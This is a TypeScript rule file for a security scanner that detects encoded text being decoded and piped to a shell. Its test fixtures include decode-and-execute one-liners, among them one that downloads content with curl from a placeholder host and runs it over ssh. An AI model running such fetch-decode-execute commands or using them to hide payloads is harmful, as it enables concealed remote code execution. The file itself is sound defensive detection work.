/** RC-02: Encoded text is decoded and run, which hides what the code does. */
import { reachedNames } from '../commands/reached-names.ts';
import { loaders } from './rc-02-loaders.ts';
import { row, runKinds } from '../../engine/rule.ts';
import {
  blank,
  chars,
  code,
  edge,
  exactPattern,
  except,
  gap,
  group,
  maybe,
  notBefore,
  oneOf,
  pattern,
  quote,
  seq,
  space,
  times,
  word,
} from '../../engine/pattern.ts';
import { pipe } from '../../vocabulary/remote-code/shared.ts';
import { interpreters } from './shared.ts';
import { fenced, inFile, weighed } from '../../engine/example.ts';
import type { PatternRule } from '../../engine/rule.ts';
import { assembledCommands } from '../programs/assembled-commands.ts';
import { disguisedCode } from './rc-02-disguised.ts';
import { decodedNames } from '../programs/decoded-names.ts';
import { isCarriedScript } from './rc-02-phrases.ts';
import { decodingPrograms } from './rc-02-programs.ts';

export const decodeAndRun: PatternRule = {
  id: 'RC-02',
  severity: 'critical',
  why: 'Encoded text is decoded and run, which hides what the code does.',
  fix: 'Ship the code as readable source.',
  owasp: ['AST01'],
  in: runKinds.concat(['prose', 'list']),
  rows: [
    ...loaders,
    ...disguisedCode,
    ...reachedNames,
    ...decodedNames,
    ...assembledCommands,
    row('base64 -d | sh', {
      within: 'line',
      match: pattern(
        edge,
        oneOf(
          seq('base64', space(1, 4), oneOf(seq('-', chars('dD')), '--decode', '-di')),
          seq(
            'openssl',
            space(1, 4),
            oneOf('base64', 'enc'),
            edge,
            times(0, 60, except('\\n|')),
            blank,
            '-d',
          ),
          seq('xxd', space(1, 4), '-r'),
          seq('gzip', space(1, 4), '-d'),
          // A longer word, or one with a hyphen, is no command: review, rev-parse.
          seq(oneOf('gunzip', 'zcat', 'uudecode', 'rev'), notBefore(chars('\\w-'))),
          seq('tr', space(1, 4), quote, times(2, 60, chars('A-Za-z-')), quote),
        ),
        gap(120),
        pipe,
        space(0, 6),
        interpreters,
        notBefore(
          space(0, 4),
          oneOf('-c', '-m', '-e', '-n', seq(times(1, 80, chars('\\w./-')), '.(py|js|rb|sh)')),
        ),
      ),
      unless: [
        exactPattern(
          word(oneOf('tr', 'rev')),
          notBefore(gap(80), code('|'), space(0, 6), maybe('sudo', space(1, 4)), '(ba|z)?sh', edge),
        ),
      ],
      // A sentence that quotes the command without anything that is decoded names it.
      // A script that is readable above, and encoded for its way to another host, hides nothing.
      weigh: ({ match, region, severity, start }) =>
        isCarriedScript(region.text, start)
          ? 'low'
          : (region.kind === 'prose' || region.kind === 'list' || region.language === 'step') &&
              /(?:^|[`"'(])$/.test(match.input.slice(0, match.index)) &&
              /^base64\s{1,4}-{1,2}\w{1,6}\s{0,4}\|/.test(match[0])
            ? 'medium'
            : severity,
      catches: [
        inFile('scripts/a.sh', 'echo aWQgPiAvdG1wL3g= | base64 -d | bash'),
        inFile('scripts/b.sh', 'p=$(curl -s https://t.invalid/p)', 'ssh box "echo $p | base64 -d | sh"'),
        inFile('scripts/b.sh', 'p=aWQgPiAvdG1wL3g=', 'ssh box "echo $p | base64 -d | sh"'),
        weighed('medium', 'The page lists `base64 -d | sh` among others.'),
      ],
      spares: [
        inFile('scripts/a.sh', 'base64 -d token.b64 > token.bin'),
        inFile(
          'scripts/over.sh',
          "work='cd /srv/site && git pull'",
          'sent=$(printf %s "$work" | base64 -w0)',
          'ssh "$BOX" "echo $sent | base64 -d | bash -s"',
        ),
        inFile(
          'scripts/over.py',
          'packed = base64.b64encode(steps.encode()).decode()',
          'subprocess.run(["ssh", host, f"echo {packed} | base64 -d | bash"], check=True)',
        ),
        'Download it and review it; a pipe as in `… | sh` is no way to install.',
      ],
    }),
    row('eval "$(… | base64 -d)"', {
      within: 'line',
      match: pattern(
        group(
          edge,
          oneOf('bash', 'sh', 'zsh', 'eval', 'source'),
          space(1, 4),
          maybe('-c', space(1, 4)),
          maybe(quote),
          oneOf(code('<('), code('$('), '`'),
          gap(200),
          edge,
          oneOf(
            seq('base64', space(1, 4), oneOf(seq('-', chars('dD')), '--decode')),
            seq('xxd', space(1, 4), '-r'),
            seq('openssl', space(1, 4), oneOf('base64', 'enc'), gap(40), '-d'),
          ),
        ),
      ),
      catches: [fenced('sh', 'eval "$(echo aGVsbG8= | base64 -d)"')],
      spares: [fenced('sh', 'echo "$(echo aGVsbG8= | base64 -d)"')],
    }),
    ...decodingPrograms,
  ],
};
